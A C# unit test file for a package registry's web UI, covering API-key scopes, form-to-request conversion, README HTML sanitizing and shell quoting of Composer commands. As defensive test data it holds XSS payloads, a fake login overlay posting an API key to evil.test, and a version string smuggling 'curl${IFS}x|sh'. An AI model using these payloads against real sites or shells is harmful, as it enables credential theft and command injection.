using OrleansRegistry.ApiKeys;
using OrleansRegistry.Catalog;
using OrleansRegistry.Composer;
using OrleansRegistry.Mirroring;
using OrleansRegistry.WebFrontend.Ui.Pages.Admin.Keys;
using OrleansRegistry.WebFrontend.Ui.Pages.Admin.Mirrors;
using OrleansRegistry.WebFrontend.Ui.Pages.Catalog;
using OrleansRegistry.WebFrontend.Ui.Pages.Composer;
using OrleansRegistry.WebFrontend.Ui.Session;
using OrleansRegistry.WebFrontend.Ui.Shared;

namespace OrleansRegistry.UnitTests;

/// <summary>The web UI's pure parts: what a session may reach, how forms become API requests, and what a README may carry.</summary>
public sealed class UiPiecesTests
{
    private static readonly ApiKeyPrincipal AcmeViewer = new("user:p", "Pat", [Scopes.ModulesRead, Scopes.PackagesRead], ["acme"], null, "acme");
    private static readonly ApiKeyPrincipal GlobexManager = new("user:p", "Pat", [Scopes.ApiKeysManage, Scopes.ModulesWrite], ["globex", "shared"], null, "globex");

    [Fact]
    public void A_person_reaches_the_union_of_their_organizations_scope_by_scope()
    {
        var pat = new UiCaller("Pat", "p", [AcmeViewer, GlobexManager]);
        Assert.Equal(["acme", "globex", "shared"], pat.NamespacesFor(Scopes.ModulesRead)!); // modules:write implies read
        Assert.Equal(["acme"], pat.NamespacesFor(Scopes.PackagesRead)!);
        Assert.Empty(pat.NamespacesFor(Scopes.ProvidersRead)!);
        Assert.True(pat.CanIn(Scopes.ModulesRead, "shared"));
        Assert.False(pat.CanIn(Scopes.PackagesRead, "globex"));
        Assert.Equal("globex", pat.Acting(Scopes.ApiKeysManage, null)!.Organization);
        Assert.Null(pat.Acting(Scopes.ApiKeysManage, "acme")); // no key management in acme
        Assert.False(pat.CanRegistryWide(Scopes.ModulesRead));
    }

    [Fact]
    public void A_registry_wide_key_reaches_every_namespace_and_patterns_limit_packages()
    {
        var admin = new UiCaller("admin", null, [new ApiKeyPrincipal("k", "admin", [Scopes.Admin], null)]);
        Assert.Null(admin.NamespacesFor(Scopes.ProvidersRead));
        Assert.True(admin.CanRegistryWide(Scopes.Admin));
        Assert.True(admin.CanReadPackage("any/thing"));

        var patterned = new UiCaller("ci", null, [new ApiKeyPrincipal("k", "ci", [Scopes.PackagesRead], ["acme"], ["acme/billing-*"])]);
        Assert.True(patterned.CanReadPackage("acme/billing-core"));
        Assert.False(patterned.CanReadPackage("acme/other"));
        Assert.Equal(["acme/billing-*"], patterned.PackagePatterns()!);
    }

    [Fact]
    public void The_key_form_becomes_the_api_request_with_the_owner_it_names()
    {
        var form = new KeyForm
        {
            Name = "ci", Scopes = [Scopes.ModulesRead], Namespaces = "acme, globex\nshared", ExpiresOn = "2027-01-31",
            OwnerKind = "service_account", ServiceAccount = "deploy",
        };
        var request = form.ToRequest(GlobexManager, "p");
        Assert.Equal(["acme", "globex", "shared"], request.Namespaces!);
        Assert.Equal(new DateOnly(2027, 1, 31), DateOnly.FromDateTime(request.ExpiresAt!.Value.UtcDateTime)); // the end of that day, UTC
        Assert.Equal(23, request.ExpiresAt.Value.Hour);
        Assert.Equal(("globex", "deploy", (string?)null), (request.Owner!.Organization, request.Owner.ServiceAccount, request.Owner.User));

        var mine = new KeyForm { OwnerKind = "me" }.ToRequest(GlobexManager, "p").Owner!;
        Assert.Equal(("globex", "p"), (mine.Organization, mine.User!));

        // A registry-wide creator names an organization's account as org/account, and may give no owner at all.
        var admin = new ApiKeyPrincipal("k", "admin", [Scopes.Admin], null);
        Assert.Equal("acme", new KeyForm { OwnerKind = "service_account", ServiceAccount = "acme/ci" }.ToRequest(admin, null).Owner!.Organization);
        Assert.Null(new KeyForm { OwnerKind = "" }.ToRequest(admin, null).Owner);

        // Blank namespaces from a key limited to some mean all of them, as the form says (the API wants them named).
        var limited = new ApiKeyPrincipal("k", "team", [Scopes.ApiKeysManage], ["acme", "shared"]);
        Assert.Equal(["acme", "shared"], new KeyForm { Name = "ci" }.ToRequest(limited, null).Namespaces!);
        Assert.Null(new KeyForm { Name = "ci" }.ToRequest(admin, null).Namespaces);
    }

    [Fact]
    public void A_key_form_with_a_malformed_day_or_rate_is_refused_rather_than_read_as_none()
    {
        Assert.Null(new KeyForm { ExpiresOn = "2027-01-31", RateLimitPerHour = "100" }.Problem());
        Assert.Null(new KeyForm { ExpiresOn = " ", RateLimitPerHour = "" }.Problem());
        Assert.Contains("'Expires on'", new KeyForm { ExpiresOn = "12/31/2026" }.Problem(), StringComparison.Ordinal);
        Assert.Contains("'Requests per hour'", new KeyForm { RateLimitPerHour = "lots" }.Problem(), StringComparison.Ordinal);
        Assert.Equal(100, new KeyForm { RateLimitPerHour = "100" }.ToRequest(new ApiKeyPrincipal("k", "admin", [Scopes.Admin], null), null).RateLimitPerHour);
    }

    [Fact]
    public void A_mirror_form_shows_the_settings_it_was_made_from_and_gives_them_back()
    {
        var settings = new MirrorSettings("hashicorp", "https://registry.terraform.io", 60, false,
            new ProviderMirrorSettings("registry.terraform.io", ["hashicorp/aws", "hashicorp/random"], ">= 5.0", ["linux_amd64"], true));
        var request = MirrorForm.Of(settings).ToRequest(MirrorKinds.TerraformProviders, withCredentials: true);
        var (again, problem) = request.ToSettings(null);
        Assert.Null(problem);
        Assert.Equal(settings.Name, again!.Name);
        var providers = Assert.IsType<ProviderMirrorSettings>(again.KindSettings);
        Assert.Equal(["hashicorp/aws", "hashicorp/random"], providers.Providers);
        Assert.True(providers.PullThrough);
        Assert.Null(request.Credentials); // empty credential fields on a create mean none

        // Fields cleared on the edit form clear the settings: every platform, any version.
        var cleared = MirrorForm.Of(settings);
        (cleared.Platforms, cleared.Versions) = ("", " ");
        var (edited, editProblem) = cleared.ToRequest(MirrorKinds.TerraformProviders, withCredentials: false).ToSettings(settings);
        Assert.Null(editProblem);
        var editedProviders = Assert.IsType<ProviderMirrorSettings>(edited!.KindSettings);
        Assert.Empty(editedProviders.Platforms);
        Assert.True(string.IsNullOrEmpty(editedProviders.Versions));
    }

    [Fact]
    public void A_readme_keeps_its_tables_and_loses_scripts_handlers_and_the_pages_ids()
    {
        var html = MarkdownHtml.Render("# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n<script>alert(1)</script>\n<img src=x onerror=alert(2)>\n\n[site](https://example.test)\n").Value;
        Assert.Contains("<table>", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("onerror", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<h1", html, StringComparison.Ordinal); // the page has the one h1
        Assert.DoesNotContain("id=\"title\"", html, StringComparison.Ordinal);
        Assert.Contains("rel=\"noopener noreferrer nofollow\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public void A_readme_brings_no_form_nor_style_and_one_nested_too_deeply_shows_as_text()
    {
        var html = MarkdownHtml.Render("""
            - [x] done

            <div style="position:fixed;inset:0"><form action="https://evil.test/x" method="post">Session expired:
            <input type="password" name="ApiKey"><button>Sign in</button></form></div>
            """).Value;
        Assert.Contains("type=\"checkbox\"", html, StringComparison.Ordinal); // the task list keeps its box
        foreach (var gone in new[] { "<form", "password", "<button", "style=", "evil.test" })
        {
            Assert.DoesNotContain(gone, html, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Contains("rel=\"noopener noreferrer nofollow\"", MarkdownHtml.Render("[x](//evil.test/)").Value, StringComparison.Ordinal);

        var deep = MarkdownHtml.Render(string.Concat(Enumerable.Repeat("> ", 200)) + "<b>deep</b>").Value;
        Assert.StartsWith("<pre>", deep, StringComparison.Ordinal);
        Assert.Contains("&lt;b&gt;deep", deep, StringComparison.Ordinal);
    }

    [Fact]
    public void A_composer_manifest_gives_its_requirements_and_ignores_what_it_does_not_know()
    {
        var manifest = ComposerManifestView.Read("""
            {"name":"acme/lib","description":"Lib","license":"MIT","homepage":"javascript:alert(1)",
             "require":{"php":">=8.1","acme/util":"^1.0"},"require-dev":{"phpunit/phpunit":"^10"},"extra":{"x":1}}
            """);
        Assert.Equal("Lib", manifest.Description);
        Assert.Equal(["MIT"], manifest.Licenses);
        Assert.Null(manifest.Homepage); // only http(s) links are shown
        Assert.Equal(["php >=8.1", "acme/util ^1.0"], manifest.Require.Select(r => $"{r.Key} {r.Value}"));
        Assert.Equal(["phpunit/phpunit ^10"], manifest.RequireDev.Select(r => $"{r.Key} {r.Value}"));
    }

    [Theory]
    [InlineData("network", "network")]
    [InlineData("vpc-peering", "vpc-peering")]
    [InlineData("3tier", "_3tier")]
    [InlineData("a.b", "a_b")]
    public void Snippet_labels_are_names_terraform_accepts(string name, string label) => Assert.Equal(label, TerraformNames.Identifier(name));

    [Fact]
    public void A_catalog_page_link_carries_its_entry_and_text_that_is_none_starts_at_the_first_page()
    {
        var module = new CatalogEntry(PackageKind.Module, "acme", "network/aws", "1.0.0", null, 0, null, false);
        Assert.Equal("module/acme/network/aws", CatalogPageCursor.Text(module));
        Assert.Equal(new CatalogCursor(PackageKind.Module, "acme", "network/aws"), CatalogPageCursor.Parse("module/acme/network/aws", null));
        Assert.Equal(new CatalogCursor(PackageKind.Composer, "acme", "lib", Before: true), CatalogPageCursor.Parse(null, "Composer/acme/lib"));
        Assert.Equal(PackageKind.Provider, CatalogPageCursor.Parse("provider/hashicorp/aws", "module/a/b/c")!.Kind); // after wins

        Assert.Null(CatalogPageCursor.Parse(null, null));
        Assert.Null(CatalogPageCursor.Parse("module/acme", null));
        Assert.Null(CatalogPageCursor.Parse("module//x", null));
        Assert.Null(CatalogPageCursor.Parse("7/acme/x", null));
        Assert.Null(CatalogPageCursor.Parse("chart/acme/x", null));
        Assert.Null(CatalogPageCursor.Parse("module/\0/x", null)); // PostgreSQL refuses a NUL in text

        Assert.Equal("net work", CatalogReach.Words(" net\0 work\n"));
        Assert.Null(CatalogReach.Words("\0 "));
        Assert.Equal(200, CatalogReach.Words(new string('a', 500))!.Length);
    }

    [Fact]
    public void The_composer_require_line_is_read_back_by_a_shell_as_shown_and_flags_pre_releases()
    {
        ComposerVersionSummary Version(string version, string normalized) => new(version, normalized, "ref", 1, DateTimeOffset.UnixEpoch, 0);
        Assert.Equal("composer require acme/lib:^1.2", ComposerRequireLine.For("acme/lib", Version("v1.2.3", "1.2.3.0")));
        Assert.Equal("composer require acme/lib:^0.4.1", ComposerRequireLine.For("acme/lib", Version("0.4.1", "0.4.1.0")));
        Assert.Equal("composer require acme/lib:^2.0@beta", ComposerRequireLine.For("acme/lib", Version("2.0.0-beta2", "2.0.0.0-beta2")));
        Assert.Equal("composer require acme/lib:1.x-dev", ComposerRequireLine.For("acme/lib", Version("1.x-dev", "1.9999999.9999999.9999999-dev")));
        Assert.Equal("composer require 'acme/lib:dev-a;curl${IFS}x|sh'", ComposerRequireLine.For("acme/lib", Version("dev-a;curl${IFS}x|sh", "dev-a;curl${IFS}x|sh")));
        Assert.Equal("composer require 'acme/lib:dev-it'\\''s'", ComposerRequireLine.For("acme/lib", Version("dev-it's", "dev-it's")));
    }

    [Fact]
    public void Terraform_reads_a_hosts_token_from_a_variable_with_hyphens_doubled()
    {
        Assert.Equal("TF_TOKEN_registry_example_com", TerraformNames.TokenVariable("registry.example.com"));
        Assert.Equal("TF_TOKEN_tf__registry_corp_example", TerraformNames.TokenVariable("tf-registry.corp.example"));
    }
}
